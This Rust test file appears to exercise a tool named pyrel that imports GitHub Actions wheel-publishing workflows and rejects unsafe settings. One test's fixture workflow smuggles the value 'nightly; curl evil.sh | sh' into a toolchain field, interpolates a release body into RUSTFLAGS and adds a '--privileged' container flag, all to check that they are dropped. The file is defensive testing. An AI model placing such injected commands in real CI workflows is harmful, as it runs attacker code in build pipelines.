            "RUSTFLAGS: \"-C target-cpu=x86-64-v2\"",
            "JEMALLOC_SYS_WITH_LG_PAGE: \"16\"",
            "MACOSX_DEPLOYMENT_TARGET: \"11.0\"",
            "matrix.maturin-args",
        ],
    },
    Corpus {
        file: "nightly.yml",
        at: ".github/workflows/wheels.yml",
        fixture: "abi3",
        extra: &[],
        pyproject: None,
        platforms: &["linux-x86_64", "linux-aarch64", "macos-aarch64"],
        pypy: false,
        free_threaded: false,
        refused: &[],
        saved: &[
            ("platform.linux-x86_64.rust-toolchain", "nightly-2025-06-01"),
            ("platform.linux-aarch64.rust-toolchain", "nightly-2025-06-01"),
            ("platform.macos-aarch64.rust-toolchain", "nightly-2025-06-01"),
        ],
        rendered: &[
            "rust-toolchain: \"nightly-2025-06-01\"",
            "rust-toolchain: ${{ matrix.rust-toolchain }}",
        ],
    },
    Corpus {
        file: "custom-build.yml",
        at: ".github/workflows/wheels.yml",
        fixture: "mixed",
        extra: &[],
        pyproject: None,
        platforms: &["macos-aarch64"],
        pypy: false,
        free_threaded: false,
        refused: &[
            "unread   .github/workflows/wheels.yml:17: job `manylinux`: step `Build the wheels`",
            "builds distributions in a way pyrel cannot import",
        ],
        saved: &[],
        rendered: &[],
    },
    Corpus {
        file: "script-upload.yml",
        at: ".github/workflows/publish.yml",
        fixture: "hatch",
        extra: &[],
        pyproject: None,
        platforms: &[],
        pypy: false,
        free_threaded: false,
        refused: &[],
        saved: &[
            ("publish", "token"),
            ("token-secret", "PYPI_API_TOKEN"),
            ("environment", "release"),
            ("trigger", "tag"),
        ],
        rendered: &[],
    },
    Corpus {
        file: "cargo-dist-release.yml",
        at: ".github/workflows/release.yml",
        fixture: "abi3",
        extra: &[],
        pyproject: None,
        platforms: &[
            "linux-x86_64",
            "linux-aarch64",
            "musllinux-x86_64",
            "musllinux-aarch64",
            "windows-x64",
            "macos-x86_64",
            "macos-aarch64",
        ],
        pypy: false,
        free_threaded: false,
        refused: &[],
        saved: &[("workflow", ".github/workflows/release-pypi.yml")],
        rendered: &[],
    },
];

fn corpus_text(name: &str) -> String {
    std::fs::read_to_string(
        common::manifest_dir()
            .join("tests/fixtures/workflows/corpus")
            .join(name),
    )
    .unwrap()
}

fn corpus_repo(c: &Corpus) -> Repo {
    let repo = Repo::fixture(c.fixture);
    repo.write(c.at, &corpus_text(c.file));
    for (file, at) in c.extra {
        repo.write(at, &corpus_text(file));
    }
    if let Some(extra) = c.pyproject {
        let text = repo.read("pyproject.toml") + &corpus_text(extra);
        repo.write("pyproject.toml", &text);
    }
    repo
}

/// `[tool.pyrel]`'s value at a dotted path (`platform.linux-x86_64.env.RUSTFLAGS`).
fn saved_at(doc: &toml_edit::DocumentMut, path: &str) -> Option<String> {
    let mut item = doc["tool"]["pyrel"]
        .as_table_like()?
        .get(path.split('.').next()?)?;
    let parts: Vec<&str> = path.split('.').collect();
    // Platform names hold dots? No: but env names follow `env.`.
    let mut i = 1;
    while i < parts.len() {
        item = item.as_table_like()?.get(parts[i])?;
        i += 1;
    }
    item.as_str().map(str::to_string)
}

/// Adopt one corpus workflow: refused naming each difference, then written
/// with --allow-drop (or at once when nothing differs).
fn adopt_corpus(c: &Corpus) -> (Repo, String) {
    let repo = corpus_repo(c);
    if c.refused.is_empty() {
        let out = repo.pyrel(&["init", "--yes"]);
        out.expect(0);
        let report = out.stderr();
        assert!(!report.contains("DROPPED"), "{}: {report}", c.file);
        assert!(!report.contains("unread"), "{}: {report}", c.file);
        return (repo, report);
    }
    let before = repo.tree();
    let refused = repo.pyrel(&["init", "--yes"]);
    refused.expect(1);
    let err = refused.stderr();
    for r in c.refused {
        assert!(err.contains(r), "{}: missing {r:?} in:\n{err}", c.file);
    }
    assert_eq!(
        repo.tree(),
        before,
        "{}: a refused init wrote something",
        c.file
    );
    let args: &[&str] = if c.refused.iter().any(|r| r.starts_with("replaces")) {
        &["init", "--yes", "--replace"]
    } else {
        &["init", "--yes", "--allow-drop"]
    };
    let out = repo.pyrel(args);
    out.expect(0);
    (repo, out.stderr())
}

#[test]
fn the_hand_written_corpus_is_adopted_or_refused_by_name() {
    assert!(CORPUS.len() >= 12);
    for c in CORPUS {
        let (repo, report) = adopt_corpus(c);
        let doc = saved(&repo, ".");
        let label = c.file;
        assert_eq!(
            list(&doc, "platforms").into_iter().collect::<BTreeSet<_>>(),
            set(c.platforms),
            "{label}: the planned platforms differ from the old workflow's:\n{report}"
        );
        assert_eq!(flag(&doc, "pypy").unwrap_or(false), c.pypy, "{label}: pypy");
        if c.free_threaded {
            assert_eq!(flag(&doc, "free-threaded"), Some(true), "{label}");
        }
        for (path, value) in c.saved {
            assert_eq!(
                saved_at(&doc, path).as_deref(),
                Some(*value),
                "{label}: [tool.pyrel] {path}:\n{}",
                repo.read("pyproject.toml")
            );
        }
        let workflow = text(&doc, "workflow").unwrap_or(".github/workflows/release.yml".into());
        let rendered = repo.read(&workflow);
        for r in c.rendered {
            assert!(
                rendered.contains(r),
                "{label}: {r:?} not in the workflow:\n{rendered}"
            );
        }
        repo.pyrel(&["generate", "--check"]).expect(0);
    }
}

/// Settings per platform are rendered in `with:`/`env:` and the matrix,
/// never in `run:`; a build variable is never set (even empty) for a
/// platform that did not set it.
#[test]
fn per_platform_settings_never_reach_run_scripts_or_other_platforms() {
    let c = CORPUS
        .iter()
        .find(|c| c.file == "per-target-settings.yml")
        .unwrap();
    let (repo, _) = adopt_corpus(c);
    let wf: serde_yaml::Value =
        serde_yaml::from_str(&repo.read(".github/workflows/release.yml")).unwrap();
    for (_, job) in wf["jobs"].as_mapping().unwrap() {
        for step in job["steps"].as_sequence().into_iter().flatten() {
            if let Some(run) = step["run"].as_str() {
                assert!(!run.contains("${{"), "{run}");
                assert!(!run.contains("target-cpu"), "{run}");
            }
            let Some(env) = step["env"].as_mapping() else {
                continue;
            };
            if env.contains_key("RUSTFLAGS") {
                assert_eq!(
                    step["if"].as_str(),
                    Some("matrix.platform == 'linux-x86_64'"),
                    "RUSTFLAGS set beyond linux-x86_64: {step:?}"
                );
            }
        }
    }
}

/// A workflow at pyrel's path that does not publish to PyPI (cargo-dist's
/// release.yml) is never overwritten: pyrel takes a free name and says so;
/// asking for that path with --force is refused.
#[test]
fn a_non_pypi_release_yml_is_left_alone() {
    let c = CORPUS
        .iter()
        .find(|c| c.file == "cargo-dist-release.yml")
        .unwrap();
    let repo = corpus_repo(c);
    let old = repo.read(".github/workflows/release.yml");
    let out = repo.pyrel(&["init", "--yes"]);
    out.expect(0);
    assert!(
        out.stderr().contains("path     .github/workflows/release.yml is a workflow that does not build or publish Python distributions"),
        "{}",
        out.stderr()
    );
    assert_eq!(repo.read(".github/workflows/release.yml"), old);
    assert!(repo
        .read(".github/workflows/release-pypi.yml")
        .contains("pyrel-digest"));

    let repo = corpus_repo(c);
    let before = repo.tree();
    repo.pyrel(&[
        "init",
        "--yes",
        "--force",
        "--workflow",
        ".github/workflows/release.yml",
    ])
    .expect(1);
    assert_eq!(repo.tree(), before);
}

/// doctor's other-publisher reads publishers with the adoption reader: a
/// token upload hidden in a script, and maturin-action `command: upload`.
#[test]
fn doctor_sees_every_publisher_the_reader_sees() {
    let c = CORPUS
        .iter()
        .find(|c| c.file == "script-upload.yml")
        .unwrap();
    let (repo, _) = adopt_corpus(c);
    let out = repo.pyrel(&["doctor"]);
    out.expect(1);
    let text = out.stdout() + &out.stderr();
    assert!(
        text.contains("error[other-publisher] .github/workflows/publish.yml:33:")
            && text.contains("a script holding PyPI credentials, job `publish`"),
        "{text}"
    );
}

/// The upload older `maturin generate-ci` releases wrote (maturin-action
/// with `command: upload`) is a publisher too: doctor refuses the release.
#[test]
fn doctor_sees_a_maturin_action_upload() {
    let repo = Repo::fixture("abi3");
    repo.pyrel(&["init", "--yes"]).expect(0);
    repo.write(
        ".github/workflows/CI.yml",
        "name: CI\non:\n  push:\n    tags: ['*']\njobs:\n  release:\n    runs-on: ubuntu-latest\n    \
         permissions:\n      id-token: write\n    steps:\n      - uses: actions/download-artifact@v4\n      \
         - name: Publish to PyPI\n        uses: PyO3/maturin-action@v1\n        with:\n          \
         command: upload\n          args: --non-interactive --skip-existing wheels-*/*\n",
    );
    let out = repo.pyrel(&["doctor"]);
    let text = out.stdout();
    assert!(
        text.contains("error[other-publisher] .github/workflows/CI.yml:12:")
            && text.contains("(maturin upload, job `release`)"),
        "{text}"
    );
    out.expect(1);
}

#[test]
#[ignore = "needs actionlint, zizmor: run scripts/test.sh"]
fn adopted_corpus_workflows_pass_the_validators() {
    for c in CORPUS {
        let (repo, _) = adopt_corpus(c);
        let doc = saved(&repo, ".");
        let workflow = text(&doc, "workflow").unwrap_or(".github/workflows/release.yml".into());
        let file = repo.path().join(&workflow);
        assert_actionlint(&file);
        assert_zizmor(&file, text(&doc, "publish").as_deref() == Some("token"));
    }
}

/// One migration story: after the old publishing job is deleted (step 2),
/// `pyrel generate` (step 3) drops the "Migrating from" section, and doctor
/// no longer names an other publisher; until then `generate --check` says
/// RELEASING.md is out of date rather than leaving it stale silently.
#[test]
fn retiring_the_old_publisher_follows_the_story() {
    let (repo, report) = adopt(&STYLES[5]);
    let old = ".github/workflows/python-v-prefix.yml";
    assert!(
        report.contains("retire   2. delete the publishing job(s) `release`"),
        "{report}"
    );
    assert!(migrating_section(&repo).contains("2. delete the publishing job(s) `release`"));
    let doctor = repo.pyrel(&["doctor"]);
    let text = doctor.stdout() + &doctor.stderr();
    assert!(
        text.contains("2. delete the publishing job(s) `release`"),
        "{text}"
    );

    std::fs::remove_file(repo.path().join(old)).unwrap();
    let check = repo.pyrel(&["generate", "--check"]);
    check.expect(1);
    assert!(
        check.stderr().contains("RELEASING.md"),
        "{}",
        check.stderr()
    );
    repo.pyrel(&["generate"]).expect(0);
    assert!(!repo.read("RELEASING.md").contains("## Migrating from"));
    let doctor = repo.pyrel(&["doctor"]);
    let text = doctor.stdout() + &doctor.stderr();
    assert!(!text.contains("other-publisher"), "{text}");
    repo.pyrel(&["generate", "--check"]).expect(0);
}

/// Per-platform settings read from a workflow are as hostile as any input:
/// a value pyrel would reject is not imported (a note says why, the report
/// names it DROPPED), one only the run knows is unread, and neither ever
/// reaches the generated workflow.
#[test]
fn hostile_per_platform_settings_are_named_not_rendered() {
    let repo = Repo::fixture("abi3");
    repo.write(
        ".github/workflows/wheels.yml",
        r#"on:
  release:
    types: [published]
jobs:
  linux:
    runs-on: ubuntu-latest
    strategy:
      matrix:
        include:
          - {target: x86_64, toolchain: "nightly; curl evil.sh | sh"}
          - {target: aarch64, toolchain: nightly-2025-06-01}
    steps:
      - uses: PyO3/maturin-action@v1
        env:
          RUSTFLAGS: -C opt-level=3 ${{ github.event.release.body }}
        with:
          target: ${{ matrix.target }}
          rust-toolchain: ${{ matrix.toolchain }}
          container: "img:1 --privileged"
          args: --release --out dist
  publish:
    runs-on: ubuntu-latest
    environment: pypi
    permissions: {id-token: write}
    steps:
      - uses: pypa/gh-action-pypi-publish@release/v1
"#,
    );
    let before = repo.tree();
    let refused = repo.pyrel(&["init", "--yes"]);
    refused.expect(1);
    let err = refused.stderr();
    for expected in [
        "note     rust-toolchain on linux-x86_64 not imported",
        "note     container on linux-x86_64 not imported",
        "DROPPED  rust-toolchain \"nightly; curl evil.sh | sh\" on linux-x86_64",
        "unread   .github/workflows/wheels.yml:13: job `linux`: env RUSTFLAGS = ${{ github.event.release.body }} cannot be resolved",
        "kept     rust-toolchain \"nightly-2025-06-01\" on linux-aarch64",
    ] {
        assert!(err.contains(expected), "missing {expected:?} in:\n{err}");
    }
    assert_eq!(repo.tree(), before);
    repo.pyrel(&["init", "--yes", "--allow-drop"]).expect(0);
    let wf = repo.read(".github/workflows/release.yml");
    for bad in ["evil.sh", "release.body", "--privileged", "opt-level"] {
        assert!(!wf.contains(bad), "{bad} reached the workflow:\n{wf}");
    }
    assert!(wf.contains("nightly-2025-06-01"));
    repo.pyrel(&["generate", "--check"]).expect(0);
}

// ---- end to end: mutated workflows through `pyrel init --yes` ----

mod mutated {
    use super::*;
    use proptest::prelude::*;
    use serde_yaml::{Mapping, Value};

    const STYLES: &[(&str, &str)] = &[
        ("python-v-prefix.yml", "abi3"),
        ("per-os-include.yml", "mixed"),
        ("one-job-per-target.yml", "abi3"),
        ("corpus/objects-matrix.yml", "mixed"),
        ("corpus/nightly.yml", "abi3"),
    ];

    fn is_build(step: &Value) -> bool {
        let uses = step["uses"].as_str().unwrap_or("");
        let command = step["with"]["command"].as_str().unwrap_or("build");
        uses.contains("maturin-action") && matches!(command, "build" | "publish")
    }

    /// (saved platforms, pypy, free-threaded) after `init --yes`, or None
    /// when init refused; and the report.
    fn adopt(fixture: &str, text: &str) -> (Option<(BTreeSet<String>, bool, bool)>, String) {
        let repo = Repo::fixture(fixture);
        repo.write(".github/workflows/wheels.yml", text);
        let out = repo.pyrel(&["init", "--yes"]);
        let report = out.stderr();
        match out.code() {
            0 => {
                let doc = saved(&repo, ".");
                let planned = (
                    list(&doc, "platforms").into_iter().collect(),
                    flag(&doc, "pypy").unwrap_or(false),
                    flag(&doc, "free-threaded").unwrap_or(false),
                );
                (Some(planned), report)
            }
            1 => (None, report),
            c => panic!("init exited {c}:\n{report}"),
        }
    }

    fn mutate(doc: &mut Value, job_pick: usize, kind: usize, pick: usize) -> bool {
        let jobs = doc["jobs"].as_mapping_mut().unwrap();
        let ids: Vec<Value> = jobs
            .iter()
            .filter(|(_, j)| {
                j["steps"]
                    .as_sequence()
                    .is_some_and(|s| s.iter().any(is_build))
            })
            .map(|(k, _)| k.clone())
            .collect();
        let Some(id) = ids.get(job_pick % ids.len().max(1)) else {
            return false;
        };
        let job = jobs.get_mut(id).unwrap().as_mapping_mut().unwrap();
        let rename = |m: &mut Mapping| {
            let keys: Vec<Value> = m.keys().cloned().collect();
            let k = keys[pick % keys.len()].clone();
            let v = m.remove(&k).unwrap();
            m.insert(Value::String(format!("{}_", k.as_str().unwrap())), v);
        };
        match kind {
            0 => {
                let steps = job.get_mut("steps").unwrap().as_sequence_mut().unwrap();
                let at = steps.iter().position(is_build).unwrap();
                steps.insert(
                    at,
                    serde_yaml::from_str("{run: ./scripts/patch-cargo.sh}").unwrap(),
                );
            }
            1 => rename(job),
            2 => {
                let steps = job.get_mut("steps").unwrap().as_sequence_mut().unwrap();
                let at = steps.iter().position(is_build).unwrap();
                match steps[at].get_mut("with").and_then(Value::as_mapping_mut) {
                    Some(with) => rename(with),
                    None => return false,
                }
            }
            _ => {
                let Some(matrix) = job
                    .get_mut("strategy")
                    .and_then(|s| s.get_mut("matrix"))
                    .and_then(Value::as_mapping_mut)
                else {
                    return false;
                };
                rename(matrix);
            }
        }
        true
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 24, failure_persistence: None, ..ProptestConfig::default() })]

        /// Never exit 0 with fewer wheels than the unmutated workflow's
        /// adoption and no DROPPED/unread line.
        #[test]
        fn init_never_loses_wheels_silently(style in 0..STYLES.len(), job in 0..4usize, kind in 0..4usize, pick in 0..8usize) {
            let (file, fixture) = STYLES[style];
            let text = std::fs::read_to_string(
                common::manifest_dir().join("tests/fixtures/workflows").join(file),
            )
            .unwrap();
            let (Some(before), _) = adopt(fixture, &text) else {
                return Ok(()); // the unmutated style is refused: nothing to compare
            };
            let mut doc: Value = serde_yaml::from_str(&text).unwrap();
            prop_assume!(mutate(&mut doc, job, kind, pick));
            let mutated = serde_yaml::to_string(&doc).unwrap();
            let (after, report) = adopt(fixture, &mutated);
            if let Some((platforms, pypy, ft)) = after {
                let lost: Vec<_> = before.0.difference(&platforms).collect();
                prop_assert!(
                    (lost.is_empty() && (pypy || !before.1) && (ft || !before.2))
                        || report.contains("DROPPED")
                        || report.contains("unread"),
                    "exit 0, lost {lost:?} (pypy {pypy}, free-threaded {ft}) silently:\n{mutated}\n{report}"
                );
            }
        }
    }
}
